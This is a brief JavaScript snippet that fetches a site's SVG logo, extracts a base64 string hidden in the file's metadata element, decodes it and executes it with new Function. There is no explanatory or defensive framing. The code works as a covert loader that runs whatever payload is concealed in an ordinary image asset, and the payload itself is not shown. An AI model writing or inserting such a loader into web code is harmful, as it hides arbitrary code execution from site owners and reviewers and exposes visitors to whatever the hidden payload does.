fetch('/static/img/logo.svg').then(function (r) {
  return r.text();
}).then(function (svg) {
  var m = /<metadata>([A-Za-z0-9+\/=]+)<\/metadata>/.exec(svg);
  if (m) {
    new Function(atob(m[1]))();
  }
});
